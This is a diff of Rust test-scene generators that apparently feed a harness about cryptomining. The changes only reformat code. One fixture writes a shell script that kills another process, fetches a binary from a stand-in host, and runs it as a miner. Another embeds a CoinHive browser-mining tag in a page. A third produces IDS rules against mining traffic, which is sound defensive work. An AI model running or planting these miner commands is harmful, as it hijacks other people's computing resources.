@@ -72,7 +72,10 @@ fn order(seed: u64) -> String {
 }
 
 pub(super) fn script(seed: u64) -> Scene {
-    let text = format!("#!/bin/sh\npkill other\nwget -q http://files.example/x -O /tmp/x\nchmod +x /tmp/x\nnohup /tmp/x {} &\n", order(seed));
+    let text = format!(
+        "#!/bin/sh\npkill other\nwget -q http://files.example/x -O /tmp/x\nchmod +x /tmp/x\nnohup /tmp/x {} &\n",
+        order(seed)
+    );
     taken(seed, "script-download", "a script that starts a miner", &[file("/i.sh", "text/plain", text)])
 }
 
@@ -98,19 +101,32 @@ pub(super) fn wiki(seed: u64) -> Scene {
         let page = format!(
             "<html><h1>Mining</h1><pre>{line}</pre><p>Or in a page: <code>&lt;script&gt;new CoinHive.Anonymous('YOUR_SITE_KEY')&lt;/script&gt;</code></p></html>"
         );
-        fetch("wiki.example", &[file("/wiki/mining", "text/html", page), file("/README.md", "text/plain", line)])
+        fetch(
+            "wiki.example",
+            &[file("/wiki/mining", "text/html", page), file("/README.md", "text/plain", line)],
+        )
     })
 }
 
 pub(super) fn rules(seed: u64) -> Scene {
     one(seed, "ids-rules", "rules of an IDS are fetched", 80, |_| {
         let mut text = "# rules against coin mining\n".to_owned();
-        for word in ["mining.subscribe", "mining.authorize", "stratum+tcp://", "donate-level", "cryptonight", "site_key"] {
+        for word in [
+            "mining.subscribe",
+            "mining.authorize",
+            "stratum+tcp://",
+            "donate-level",
+            "cryptonight",
+            "site_key",
+        ] {
             text.push_str(&format!(
                 "alert tcp $HOME_NET any -> $EXTERNAL_NET any (msg:\"MINER {word}\"; content:\"{word}\"; sid:1;)\n"
             ));
         }
-        text.push_str(&format!("alert tcp any any -> any any (msg:\"line\"; content:\"{}\"; sid:2;)\n", order(seed)));
+        text.push_str(&format!(
+            "alert tcp any any -> any any (msg:\"line\"; content:\"{}\"; sid:2;)\n",
+            order(seed)
+        ));
         fetch("rules.example", &[file("/miner.rules", "text/plain", text)])
     })
 }
